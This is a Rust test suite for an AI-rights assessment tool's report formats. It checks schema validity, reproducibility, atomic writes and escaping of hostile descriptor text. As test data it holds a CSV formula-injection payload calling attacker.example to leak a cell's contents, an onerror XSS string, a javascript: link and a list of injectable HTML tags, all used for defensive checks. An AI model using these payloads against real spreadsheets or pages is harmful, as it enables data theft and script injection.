//! The report formats, from the real binary and the library: each validated against its
//! schema where one exists, safe with hostile descriptor text, reproducible, and written
//! atomically.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command as Process;

use common::{AS_OF, assert_valid, bin, oscal_references_resolve, root, trestle_python, validator};
use serde_json::Value;

const EXAMPLES: [&str; 5] = [
    "examples/welfare-risk-scoring.yaml",
    "examples/live-facial-recognition.yaml",
    "examples/well-governed.yaml",
    "examples/well-governed.json",
    "examples/hostile-strings.yaml",
];
const HOSTILE: &str = "examples/hostile-strings.yaml";
const FORMATS: [&str; 8] = [
    "table", "json", "markdown", "html", "csv", "sarif", "junit", "oscal",
];

/// Runs `assess` and returns standard output; exit status 0 or 1 (findings) only.
fn report(format: &str, file: &str, extra: &[&str]) -> String {
    let out = bin()
        .args(["assess", "--as-of", AS_OF, "--format", format, file])
        .args(extra)
        .output()
        .unwrap();
    let code = out.status.code().unwrap();
    assert!(
        code == 0 || code == 1,
        "{format} {file}: exit {code}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

fn descriptor_lines(file: &str) -> usize {
    std::fs::read_to_string(root().join(file))
        .unwrap()
        .lines()
        .count()
}

#[test]
fn every_format_is_produced_for_every_example() {
    for file in EXAMPLES {
        for format in FORMATS {
            let text = report(format, file, &[]);
            assert!(!text.trim().is_empty(), "{format} {file}");
        }
    }
}

#[test]
fn json_follows_its_schema() {
    let v = validator("schemas/assessment.schema.json");
    for file in EXAMPLES {
        assert_valid(&v, &json(&report("json", file, &[])), file);
    }
}

#[test]
fn the_assessment_schema_is_strict() {
    let v = validator("schemas/assessment.schema.json");
    let mut doc = json(&report("json", EXAMPLES[0], &[]));
    doc["findings"][0]["outcome"] = Value::from("maybe");
    assert!(!v.is_valid(&doc));
    let mut doc = json(&report("json", EXAMPLES[0], &[]));
    doc["surprise"] = Value::from(1);
    assert!(!v.is_valid(&doc));
}

#[test]
fn sarif_follows_the_sarif_2_1_0_schema_and_points_at_descriptor_lines() {
    let v = validator("tests/schemas/sarif-schema-2.1.0.json");
    for file in EXAMPLES {
        let sarif = json(&report("sarif", file, &[]));
        assert_valid(&v, &sarif, file);
        let assessment = json(&report("json", file, &[]));
        let run = &sarif["runs"][0];
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        assert_eq!(
            rules.len(),
            assessment["findings"].as_array().unwrap().len()
        );
        let open = assessment["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["outcome"] == "gap" || f["outcome"] == "unknown")
            .count();
        let results = run["results"].as_array().unwrap();
        assert_eq!(
            results.len(),
            open,
            "{file}: one result per gap or question"
        );
        let lines = descriptor_lines(file);
        for r in results {
            let index = usize::try_from(r["ruleIndex"].as_u64().unwrap()).unwrap();
            assert_eq!(rules[index]["id"], r["ruleId"], "{file}");
            let location = &r["locations"][0]["physicalLocation"];
            assert_eq!(location["artifactLocation"]["uri"], file, "{file}");
            assert_eq!(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
            let line = location["region"]["startLine"].as_u64().unwrap();
            assert!(
                line >= 1 && usize::try_from(line).unwrap() <= lines,
                "{file}: line {line} of {lines}"
            );
        }
        assert_eq!(
            run["artifacts"][0]["hashes"]["sha-256"],
            assessment["descriptor"]["sha256"]
        );
    }
}

#[test]
fn oscal_has_one_finding_per_rule_and_resolving_references() {
    for file in EXAMPLES {
        let oscal = json(&report("oscal", file, &["--assessor", "A. Auditor"]));
        let assessment = json(&report("json", file, &[]));
        let ar = &oscal["assessment-results"];
        assert_eq!(ar["metadata"]["oscal-version"], "1.1.3");
        assert_eq!(
            ar["metadata"]["last-modified"],
            format!("{AS_OF}T00:00:00Z")
        );
        let result = &ar["results"][0];
        let findings = result["findings"].as_array().unwrap();
        let expected = assessment["findings"].as_array().unwrap();
        assert_eq!(findings.len(), expected.len(), "{file}");
        for (f, e) in findings.iter().zip(expected) {
            assert_eq!(f["target"]["target-id"], e["rule_id"]);
            let state = if e["outcome"] == "gap" || e["outcome"] == "unknown" {
                "not-satisfied"
            } else {
                "satisfied"
            };
            assert_eq!(f["target"]["status"]["state"], state, "{file}");
        }
        oscal_references_resolve(&oscal, file);
    }
}

#[test]
fn oscal_validates_with_compliance_trestle() {
    let Some(python) = trestle_python() else {
        let message = "compliance-trestle 3.x (OSCAL 1.1) is not installed; `bash .ci/run` installs it in target/ci-venv";
        assert!(std::env::var_os("CI").is_none(), "{message}");
        eprintln!("skipped: {message}");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    for (i, file) in EXAMPLES.iter().enumerate() {
        let path = dir.path().join(format!("{i}.json"));
        std::fs::write(&path, report("oscal", file, &["--assessor", "A. Auditor"])).unwrap();
        files.push(path);
    }
    let out = Process::new(&python)
        .arg("-c")
        .arg(
            "import sys, pathlib\n\
             from trestle.oscal.assessment_results import AssessmentResults\n\
             for p in sys.argv[1:]:\n\
             \x20   m = AssessmentResults.oscal_read(pathlib.Path(p))\n\
             \x20   assert m.results[0].findings, p\n\
             print('valid', len(sys.argv) - 1)\n",
        )
        .args(&files)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "trestle rejects the OSCAL output:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn junit_has_one_test_case_per_rule() {
    for file in EXAMPLES {
        let xml = report("junit", file, &[]);
        let assessment = json(&report("json", file, &[]));
        let parsed = quick_junit::Report::deserialize_from_str(&xml).unwrap();
        let cases: usize = parsed.test_suites.iter().map(|s| s.test_cases.len()).sum();
        let findings = assessment["findings"].as_array().unwrap();
        assert_eq!(cases, findings.len(), "{file}");
        let count = |o: &str| findings.iter().filter(|f| f["outcome"] == o).count();
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let tag = |t: &str| doc.descendants().filter(|n| n.has_tag_name(t)).count();
        assert_eq!(tag("failure"), count("gap"), "{file}");
        assert_eq!(tag("error"), count("unknown"), "{file}");
        assert_eq!(tag("skipped"), count("not-applicable"), "{file}");
        assert!(!xml.contains("timestamp="), "{file}: no timestamps");
        assert!(!xml.contains(" time="), "{file}: no timings");
    }
}

#[test]
fn csv_has_a_bom_a_header_and_one_row_per_finding() {
    for file in EXAMPLES {
        let text = report("csv", file, &[]);
        let body = text
            .strip_prefix('\u{feff}')
            .expect("a UTF-8 byte-order mark");
        assert!(body.contains("\r\n"), "CRLF line ends");
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let header = reader.headers().unwrap().clone();
        assert_eq!(&header[0], "rule_id");
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let assessment = json(&report("json", file, &[]));
        assert_eq!(rows.len(), assessment["findings"].as_array().unwrap().len());
        for row in &rows {
            assert_eq!(row.len(), header.len());
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: cell could run as a formula: {cell}"
                );
            }
        }
    }
}

#[test]
fn csv_guards_against_formula_injection() {
    let text = report("csv", HOSTILE, &[]);
    assert!(!text.contains('\u{1b}'), "no terminal escapes");
    // A system whose name is a formula.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("formula.yaml");
    let yaml = std::fs::read_to_string(root().join("examples/well-governed.yaml")).unwrap();
    let yaml = yaml.replacen(
        "  name: St Aldric Chest X-ray Reading-Queue Prioritisation",
        "  name: '=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")'",
        1,
    );
    std::fs::write(&file, yaml).unwrap();
    let text = report("csv", file.to_str().unwrap(), &[]);
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().clone();
    let system = header.iter().position(|h| h == "system").unwrap();
    for row in reader.records() {
        assert_eq!(
            &row.unwrap()[system],
            "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")"
        );
    }
}

/// Tags that hostile descriptor text tries to inject.
const HOSTILE_TAGS: [&str; 10] = [
    "<img", "<script", "<svg", "<iframe", "<a ", "<style", "<b>", "<marquee", "<i>", "<!--",
];

#[test]
fn html_escapes_every_descriptor_string_and_loads_nothing() {
    let html = report("html", HOSTILE, &["--assessor", "<b>bold</b>"]);
    // The report's own markup has `<a `, `<svg` and `<style`; the descriptor's does not.
    for bad in HOSTILE_TAGS
        .iter()
        .filter(|t| !matches!(**t, "<a " | "<svg" | "<style"))
    {
        assert!(!html.contains(bad), "unescaped `{bad}` in the HTML report");
    }
    for bad in ["<svg onload", "<style>body", "<a href=\"javascript"] {
        assert!(!html.contains(bad), "unescaped `{bad}` in the HTML report");
    }
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(
        !html.contains('\u{1b}'),
        "control characters are made visible"
    );
    assert!(
        !html.contains('\u{202e}'),
        "bidirectional overrides are made visible"
    );
    // Self-contained: no script, no external resource, and a policy that forbids both.
    for needle in [
        "<script", "<link", "<img", "<object", "<embed", "<video", "<audio", "<source", "<input",
        "@import", "url(http", "url(//",
    ] {
        assert!(!html.contains(needle), "`{needle}` in the HTML report");
    }
    assert!(html.contains("Content-Security-Policy"));
    assert!(html.contains("default-src 'none'"));
    // Only http(s) evidence links become links.
    for (i, _) in html.match_indices("href=\"") {
        let rest = &html[i + 6..];
        assert!(
            rest.starts_with('#') || rest.starts_with("https://") || rest.starts_with("http://"),
            "unexpected link: {}",
            &rest[..rest.len().min(60)]
        );
    }
}

#[test]
fn markdown_fits_a_code_host_comment_and_keeps_every_gap_and_question() {
    // GitHub refuses a comment of more than 65,536 characters.
    const COMMENT_LIMIT: usize = 65_536;
    let file = EXAMPLES[0];
    for extra in [&[][..], &["--waivers", "examples/waivers.yaml"][..]] {
        let md = report("markdown", file, extra);
        let chars = md.chars().count();
        assert!(
            chars < COMMENT_LIMIT,
            "{file} {extra:?}: {chars} characters"
        );
        let assessment = json(&report("json", file, extra));
        for f in assessment["findings"].as_array().unwrap() {
            let id = f["rule_id"].as_str().unwrap();
            match f["outcome"].as_str().unwrap() {
                "gap" => assert!(md.contains(&format!("#### {id}: ")), "gap {id} missing"),
                "unknown" => {
                    let question = f["question"].as_str().unwrap();
                    assert!(md.contains(&format!("{id}: ")), "question {id} missing");
                    assert!(md.contains(question.trim()), "question of {id} missing");
                }
                _ => {}
            }
        }
        // Names and values show as code, not as escaped backticks.
        assert!(
            !md.contains("\\`"),
            "literal backticks in the Markdown report"
        );
    }
}

#[test]
fn ci_formats_annotate_every_gap_and_question_once() {
    for file in EXAMPLES {
        let assessment = json(&report("json", file, &[]));
        let open: Vec<(&str, bool)> = assessment["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| matches!(f["outcome"].as_str(), Some("gap" | "unknown" | "not-asked")))
            .map(|f| {
                (
                    f["rule_id"].as_str().unwrap(),
                    f["failing"].as_bool().unwrap(),
                )
            })
            .collect();
        let github = report("github", file, &[]);
        assert_eq!(github.lines().count(), open.len(), "{file}");
        for (line, (id, failing)) in github.lines().zip(&open) {
            let level = if *failing { "::error " } else { "::warning " };
            assert!(line.starts_with(level), "{file}: {line}");
            assert!(line.contains(&format!(",title={id}%3A ")), "{file}: {line}");
            // One command per line: the message's own line breaks are escaped.
            assert!(!line.contains('\r'));
        }
        let gitlab = json(&report("gitlab", file, &[]));
        let issues = gitlab.as_array().unwrap();
        assert_eq!(issues.len(), open.len(), "{file}");
        let fingerprints: BTreeSet<&str> = issues
            .iter()
            .map(|i| i["fingerprint"].as_str().unwrap())
            .collect();
        assert_eq!(
            fingerprints.len(),
            issues.len(),
            "{file}: fingerprints repeat"
        );
        for i in issues {
            assert!(matches!(
                i["severity"].as_str(),
                Some("info" | "minor" | "major" | "critical" | "blocker")
            ));
            assert!(i["location"]["lines"]["begin"].as_u64().unwrap() >= 1);
            assert_eq!(i["location"]["path"], file);
        }
    }
}

#[test]
fn markdown_shows_hostile_text_as_text() {
    let md = report(
        "markdown",
        HOSTILE,
        &["--assessor", "[x](javascript:alert(1))"],
    );
    let mut html = String::new();
    pulldown_cmark::html::push_html(
        &mut html,
        pulldown_cmark::Parser::new_ext(&md, pulldown_cmark::Options::all()),
    );
    for bad in HOSTILE_TAGS {
        assert!(!html.contains(bad), "`{bad}` survives Markdown rendering");
    }
    assert!(
        !html.contains("<h1>Not a heading"),
        "descriptor text became a heading"
    );
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    // The only links are the ones the template makes: none in the Markdown report.
    assert!(!html.contains("<a "), "a link was injected");
}

#[test]
fn every_format_is_byte_identical_across_runs_and_with_source_date_epoch() {
    let dir = tempfile::tempdir().unwrap();
    for format in FORMATS {
        let mut outputs = Vec::new();
        for (i, epoch) in [None, None, Some("1782777600")].into_iter().enumerate() {
            let path = dir.path().join(format!("{format}-{i}"));
            let mut cmd = bin();
            cmd.args([
                "assess",
                "--format",
                format,
                "--assessor",
                "A. Auditor",
                "--output",
            ])
            .arg(&path)
            .arg(EXAMPLES[0]);
            match epoch {
                Some(e) => cmd.env("SOURCE_DATE_EPOCH", e),
                None => cmd.args(["--as-of", AS_OF]),
            };
            let code = cmd.output().unwrap().status.code().unwrap();
            assert!(code <= 1, "{format}");
            outputs.push(std::fs::read(&path).unwrap());
        }
        assert_eq!(outputs[0], outputs[1], "{format}: two runs differ");
        assert_eq!(
            outputs[0], outputs[2],
            "{format}: SOURCE_DATE_EPOCH differs from --as-of"
        );
    }
}

fn files_in(dir: &Path) -> BTreeSet<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect()
}

#[test]
fn a_failed_run_leaves_no_partial_file() {
    let dir = tempfile::tempdir().unwrap();
    let template = dir.path().join("broken.j2");
    std::fs::write(&template, "<p>{{ verdict.label }</p>").unwrap();
    let out = dir.path().join("report.html");
    bin()
        .args(["assess", "--as-of", AS_OF, "--format", "html", "--template"])
        .arg(&template)
        .arg("--output")
        .arg(&out)
        .arg(EXAMPLES[0])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("broken.j2"));
    assert!(!out.exists());
    assert_eq!(
        files_in(dir.path()),
        BTreeSet::from(["broken.j2".to_string()])
    );

    // A template that fails while rendering leaves an existing report untouched.
    std::fs::write(&out, "previous report").unwrap();
    std::fs::write(&template, "{{ no_such_variable }}").unwrap();
    bin()
        .args(["assess", "--as-of", AS_OF, "--format", "html", "--template"])
        .arg(&template)
        .arg("--output")
        .arg(&out)
        .arg(EXAMPLES[0])
        .assert()
        .code(2);
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "previous report");
    assert_eq!(
        files_in(dir.path()),
        BTreeSet::from(["broken.j2".to_string(), "report.html".to_string()])
    );
}

#[test]
fn a_replacement_template_renders_the_same_view_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let template = dir.path().join("mine.j2");
    std::fs::write(
        &template,
        "{{ system.name }}|{{ verdict.key }}|{{ plan | length }}|{{ record.descriptor_sha256 }}\n",
    )
    .unwrap();
    let html = report("html", HOSTILE, &["--template", template.to_str().unwrap()]);
    assert!(
        html.starts_with("&lt;img src=x onerror=alert(1)&gt;|acceptable|"),
        "{html}"
    );
    let md = report(
        "markdown",
        HOSTILE,
        &["--template", template.to_str().unwrap()],
    );
    assert!(
        md.starts_with("&lt;img src=x onerror=alert(1)&gt;|acceptable|"),
        "{md}"
    );
    bin()
        .args(["assess", "--as-of", AS_OF, "--format", "csv", "--template"])
        .arg(&template)
        .arg(EXAMPLES[0])
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "applies to the html and markdown formats",
        ));
}

#[test]
fn deadlines_set_the_target_dates() {
    let target = |extra: &[&str]| -> BTreeMap<String, String> {
        let sarif = json(&report("sarif", EXAMPLES[0], extra));
        sarif["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                (
                    r["properties"]["severity"].as_str().unwrap().to_string(),
                    r["properties"]["targetDate"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    let default = target(&[]);
    assert_eq!(default["high"], "2026-07-30");
    assert_eq!(default["medium"], "2026-09-28");
    let custom = target(&["--deadlines", "high=7,medium=14"]);
    assert_eq!(custom["high"], "2026-07-07");
    assert_eq!(custom["medium"], "2026-07-14");
    let html = report("html", EXAMPLES[0], &["--deadlines", "high=7"]);
    assert!(html.contains("--deadlines blocker=0,high=7,medium=90,low=180,info=365"));
    bin()
        .args([
            "assess",
            "--as-of",
            AS_OF,
            "--deadlines",
            "urgent=1",
            EXAMPLES[0],
        ])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("`urgent` is not a severity"));
}

#[test]
fn human_reports_carry_the_record_block() {
    let assessment = json(&report("json", EXAMPLES[0], &[]));
    for format in ["html", "markdown"] {
        let text = report(format, EXAMPLES[0], &["--assessor", "A. Auditor"]);
        for needle in [
            assessment["descriptor"]["sha256"].as_str().unwrap(),
            assessment["catalog"]["sha256"].as_str().unwrap(),
            AS_OF,
            "A. Auditor",
            "rightscheck 0.1.0",
        ] {
            assert!(text.contains(needle), "{format}: no `{needle}`");
        }
        for heading in [
            "Verdict",
            "The system in brief",
            "Impact level",
            "Red lines crossed",
            "Gaps by severity",
            "Questions for the vendor",
            "Remediation plan",
            "What passed, and on what evidence",
            "Coverage by theme",
            "from calls to action to findings",
            "Record of this assessment",
        ] {
            assert!(text.contains(heading), "{format}: no section `{heading}`");
        }
    }
}

#[test]
fn the_appendix_traces_every_call_to_action() {
    let calls = rightscheck::seeds::calls().unwrap();
    let md = report("markdown", EXAMPLES[0], &[]);
    let appendix = &md[md.find("## Appendix").unwrap()..];
    for call in &calls {
        assert!(
            appendix.contains(&format!("**{}**", call.id)),
            "call {} missing from the appendix",
            call.id
        );
    }
}
